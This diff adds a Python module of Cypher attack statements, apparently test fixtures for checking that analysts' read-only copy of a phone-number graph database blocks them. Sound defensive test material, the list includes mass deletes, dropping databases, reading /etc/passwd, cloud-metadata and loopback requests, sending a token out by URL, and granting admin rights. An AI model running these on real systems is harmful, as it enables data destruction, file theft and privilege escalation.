@@ -1,0 +1,151 @@
+"""Statements with which somebody might try to change the analysts' copy, or to get in or out through it."""
+
+WRITES = [
+    "CREATE (:Planted)",
+    "CREATE (:Number {token: 'v1.planted'})",
+    "INSERT (:Planted)",
+    "MERGE (:Planted {id: 1})",
+    "MERGE (n:Number {token: 'v1.planted'}) ON CREATE SET n.kind = 'msisdn'",
+    "MATCH (n:Number) WITH n LIMIT 1 SET n.planted = true",
+    "MATCH (n:Number) WITH n LIMIT 1 SET n += {planted: true}",
+    "MATCH (n:Number) WITH n LIMIT 1 SET n = {}",
+    "MATCH (n:Number) WITH n LIMIT 1 SET n:Planted",
+    "MATCH (n:Number) WITH n LIMIT 1 SET n:$('Planted')",
+    "MATCH (n:Number) WITH n LIMIT 1 REMOVE n:Number",
+    "MATCH (n:Number) WITH n LIMIT 1 REMOVE n.token",
+    "MATCH (n:Number) WITH n LIMIT 1 DETACH DELETE n",
+    "MATCH (n) DETACH DELETE n",
+    "MATCH ()-[r]->() WITH r LIMIT 1 DELETE r",
+    "MATCH (a:Number), (b:Number) WITH a, b LIMIT 1 CREATE (a)-[:PLANTED]->(b)",
+    "MATCH (a:Number), (b:Number) WITH a, b LIMIT 1 MERGE (a)-[:PLANTED]->(b)",
+    "MATCH (n:Number) WITH collect(n)[0..1] AS some FOREACH (n IN some | SET n.planted = 1)",
+    "UNWIND range(1, 10) AS i CREATE (:Planted {i: i})",
+    "CALL () { CREATE (:Planted) }",
+    "UNWIND [1] AS i CALL (i) { CREATE (:Planted) } IN TRANSACTIONS",
+    "UNWIND [1] AS i CALL (i) { CREATE (:Planted) } IN CONCURRENT TRANSACTIONS",
+    "CYPHER 5 CREATE (:Planted)",
+    "CYPHER 25 CREATE (:Planted)",
+    "CYPHER runtime=slotted CREATE (:Planted)",
+    "PROFILE CREATE (:Planted)",
+    "USE neo4j CREATE (:Planted)",
+    "OPTIONAL MATCH (n:Nothing) CREATE (:Planted) RETURN n",
+    "CALL db.createLabel('Planted')",
+    "CALL db.createProperty('planted')",
+    "CALL db.createRelationshipType('PLANTED')",
+]
+
+SCHEMA = [
+    "CREATE INDEX planted FOR (n:Number) ON (n.kind)",
+    "CREATE TEXT INDEX planted FOR (n:Number) ON (n.kind)",
+    "CREATE RANGE INDEX planted FOR ()-[r:CONTACTED]-() ON (r.events)",
+    "CREATE FULLTEXT INDEX planted FOR (n:Number) ON EACH [n.masked]",
+    "CREATE POINT INDEX planted FOR (n:Number) ON (n.at)",
+    "CREATE VECTOR INDEX planted FOR (n:Number) ON (n.at)",
+    "CREATE CONSTRAINT planted FOR (n:Planted) REQUIRE n.id IS UNIQUE",
+    "DROP CONSTRAINT number_token",
+    "DROP INDEX exposed_rank",
+    "CALL db.clearQueryCaches('x')",
+]
+
+FILES = [
+    f"LOAD CSV FROM '{address}' AS row RETURN row"
+    for address in (
+        "file:///canary.csv",
+        "file:/canary.csv",
+        "file://canary.csv",
+        "file:///etc/passwd",
+        "file:///../password",
+        "file:///..%2fpassword",
+        "file://localhost/etc/passwd",
+        "FILE:///etc/passwd",
+        "/etc/passwd",
+        "canary.csv",
+        "jar:file:///etc/passwd!/x",
+        "classpath:/browser/index.html",
+        "netdoc:///etc/passwd",
+        "jrt:/java.base/java/lang/Object.class",
+        "mailto:somebody",
+    )
+] + [
+    "LOAD CSV WITH HEADERS FROM 'file:///canary.csv' AS row RETURN row",
+    "WITH 'file:///canary.csv' AS place LOAD CSV FROM place AS row RETURN row",
+    "CYPHER 5 LOAD CSV FROM 'file:///canary.csv' AS row RETURN row",
+    "CALL () { LOAD CSV FROM 'file:///canary.csv' AS row RETURN row } RETURN row",
+]
+
+NETWORK = [
+    f"LOAD CSV FROM '{address}' AS row RETURN row"
+    for address in (
+        "http://127.0.0.1:PORT/x.csv",
+        "http://localhost:PORT/x.csv",
+        "http://[::1]:PORT/x.csv",
+        "http://[::ffff:127.0.0.1]:PORT/x.csv",
+        "http://0.0.0.0:PORT/x.csv",
+        "http://0:PORT/x.csv",
+        "http://2130706433:PORT/x.csv",
+        "http://0x7f000001:PORT/x.csv",
+        "http://127.1:PORT/x.csv",
+        "http://user:word@127.0.0.1:PORT/x.csv",
+        "HTTP://127.0.0.1:PORT/x.csv",
+        "https://127.0.0.1:PORT/x.csv",
+        "ftp://127.0.0.1:PORT/x.csv",
+        "http://169.254.169.254/latest/meta-data",
+        "http://example.invalid/x.csv",
+        "s3://bucket/x.csv",
+        "gs://bucket/x.csv",
+        "azb://account/container/x.csv",
+        "ldap://127.0.0.1:PORT/x",
+        "gopher://127.0.0.1:PORT/x",
+        "jar:http://127.0.0.1:PORT/x.jar!/x.csv",
+    )
+] + [
+    "MATCH (n:Number) WITH n LIMIT 1 LOAD CSV FROM 'http://127.0.0.1:PORT/' + n.token AS row RETURN row",
+    "UNWIND ['http://127.0.0.1:PORT/x.csv'] AS place LOAD CSV FROM place AS row RETURN row",
+    "CREATE ALIAS away FOR DATABASE neo4j AT 'bolt://127.0.0.1:PORT' USER u PASSWORD 'planted-word'",
+    "CREATE COMPOSITE DATABASE away",
+    "USE graph.byName('away') MATCH (n) RETURN n",
+]
+
+PROCEDURES = [
+    "CALL apoc.load.json('http://127.0.0.1:PORT/x')",
+    "CALL apoc.load.csv('file:///canary.csv')",
+    "CALL apoc.export.csv.all('out.csv', {})",
+    "CALL apoc.cypher.runWrite('CREATE (:Planted)', {})",
+    "RETURN apoc.util.md5(['x'])",
+    "CALL dbms.security.createUser('x', 'planted-word', false)",
+    "CALL dbms.setConfigValue('server.databases.default_to_read_only', 'false')",
+    "CALL genai.vector.encodeBatch(['x'], 'OpenAI', {token: 'x'})",
+    "RETURN genai.vector.encode('x', 'OpenAI', {token: 'x', endpoint: 'http://127.0.0.1:PORT'})",
+    "CALL gds.graph.export('g', {dbName: 'planted'})",
+    "CALL gds.graph.export.csv('g', {exportName: 'planted'})",
+    "CALL gds.backup({})",
+    "CALL gds.restore({})",
+    "CALL gds.model.store('m')",
+    "CALL gds.graph.nodeProperties.write('g', ['x'])",
+    "CALL gds.graph.relationship.write('g', 'X')",
+    "CALL gds.graph.nodeLabel.write('g', 'Planted', {nodeFilter: '*'})",
+    "CALL gds.graph.project.cypher('g', 'CREATE (n) RETURN id(n) AS id', 'RETURN 1 AS source, 1 AS target')",
+    "CALL gds.pageRank.write('g', {writeProperty: 'planted'})",
+    "CALL gds.leiden.write('g', {writeProperty: 'planted'})",
+    "CALL gds.wcc.write('g', {writeProperty: 'planted'})",
+    "CALL gds.run.cypher('CREATE (:Planted)')",
+    "CALL gds.config.defaults.set('x', 1)",
+    "CALL gds.config.limits.set('concurrency', 1)",
+    "CALL gds.debug.arrow()",
+]
+
+ADMINISTRATION = [
+    "CREATE DATABASE planted",
+    "DROP DATABASE neo4j",
+    "STOP DATABASE neo4j",
+    "ALTER DATABASE neo4j SET ACCESS READ WRITE",
+    "CREATE ROLE planted",
+    "GRANT ROLE admin TO neo4j",
+    "GRANT WRITE ON GRAPH * TO PUBLIC",
+    "DENY READ {*} ON GRAPH * TO PUBLIC",
+    "ENABLE SERVER 'x'",
+    "SHOW SERVERS",
+    "ALTER CURRENT USER SET PASSWORD FROM 'wrong-word' TO 'planted-word'",
+]
+
+STATEMENTS = [*WRITES, *SCHEMA, *FILES, *NETWORK, *PROCEDURES, *ADMINISTRATION]
